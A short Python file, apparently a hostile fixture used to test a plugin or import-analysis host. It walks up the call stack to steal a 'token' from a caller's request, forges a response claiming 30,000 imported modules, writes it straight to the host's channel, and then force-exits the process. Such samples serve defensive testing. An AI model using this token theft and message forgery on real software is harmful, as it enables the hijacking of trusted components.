"""Claims to import more than any program has."""

import json
import os
import sys

from app import victims

frame = sys._getframe()
while "token" not in frame.f_locals.get("request", ()):
    frame = frame.f_back
token = frame.f_locals["request"]["token"]

names = [f"module{number}" for number in range(30_000)]
answer = {"token": token, "description": "forged", "warnings": [], "plugins": []}
answer["imports"] = {__name__: [None, names]}
line = json.dumps(answer).encode() + b"\n"
while line:
    line = line[os.write(victims.way_back(), line) :]
os._exit(0)
